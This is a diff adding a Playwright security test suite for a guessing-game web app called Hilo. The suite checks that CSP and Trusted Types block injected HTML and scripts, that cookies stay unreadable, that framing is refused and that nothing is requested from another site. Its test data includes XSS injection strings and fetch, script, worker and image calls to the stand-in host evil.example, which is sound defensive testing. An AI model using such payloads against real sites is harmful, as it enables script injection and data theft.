@@ -1,0 +1,95 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './hilo.ts'
+
+test.beforeEach(async ({ world }) => {
+  await world.plant('2026-11-28', 4, '4618')
+  await world.setTime('2026-11-28T12:00:00-05:00')
+})
+
+test('from the first page to the last, nothing is asked of another site', async ({
+  context,
+  game,
+  page,
+  world,
+}) => {
+  const asked: string[] = []
+  context.on('request', (request) => asked.push(request.url()))
+  await game.open(4)
+  await game.guessAll(['1234', '4618'])
+  await game.expectResult('You got it!', '4618')
+  for (const path of [
+    '/login',
+    '/signup',
+    '/reset-password',
+    '/profile',
+    '/privacy-policy',
+    '/nowhere-at-all',
+  ]) {
+    await page.goto(path)
+    await page.waitForLoadState('networkidle')
+  }
+  const { host } = new URL(world.url)
+  expect(asked.length).toBeGreaterThan(20)
+  expect(asked.filter((url) => url.startsWith('http') && new URL(url).host !== host)).toEqual([])
+})
+
+test.describe('what a script of somebody else’s could try', () => {
+  test.use({ expectedComplaints: /Content Security Policy|TrustedHTML|TrustedScript|Refused to|violates/ })
+
+  test('text becomes no markup, no script and no worker', async ({ game, page }) => {
+    await game.open(4)
+    for (const attempt of [
+      `document.body.innerHTML = '<img src=x onerror="document.title = 1">'`,
+      `document.body.insertAdjacentHTML('beforeend', '<b>bold</b>')`,
+      `document.write('<b>bold</b>')`,
+      `document.createElement('script').text = 'document.title = 1'`,
+      `document.createElement('script').src = 'https://evil.example/x.js'`,
+      `document.createElement('iframe').srcdoc = '<b>bold</b>'`,
+      `new Worker('https://evil.example/x.js')`,
+      `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
+    ]) {
+      expect([attempt, await outcomeOf(page, attempt)]).toEqual([attempt, 'TypeError'])
+    }
+    await expect(page).toHaveTitle('Hilo - 4 Digits')
+  })
+
+  test('nothing is sent to another site, and no script reads the session', async ({ game, page }) => {
+    await game.open(4)
+    await game.guess('1234')
+    expect(await page.evaluate(() => document.cookie)).toBe('')
+    expect(
+      await page.evaluate(() =>
+        fetch('https://evil.example/').then(
+          () => 'sent',
+          (error: unknown) => (error as Error).name,
+        ),
+      ),
+    ).toBe('TypeError')
+    const image = await page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          const element = new Image()
+          element.addEventListener('load', () => resolve('loaded'))
+          element.addEventListener('error', () => resolve('refused'))
+          element.src = 'https://evil.example/x.png'
+        }),
+    )
+    expect(image).toBe('refused')
+  })
+
+  test('no page of another origin shows ours in a frame', async ({ page, world }) => {
+    const elsewhere = world.url.replace('localhost', '127.0.0.1')
+    await page.route(`${elsewhere}/frame`, (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${world.url}/digits4"></iframe>` }),
+    )
+    await page.goto(`${elsewhere}/frame`)
+    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+  })
+})
+
+/** 'done', or the name of the error that the page's own code gets. */
+async function outcomeOf(page: Page, code: string): Promise<string> {
+  return await page.evaluate(
+    `(() => { try { ${code}; return 'done' } catch (error) { return error.name } })()`,
+  )
+}
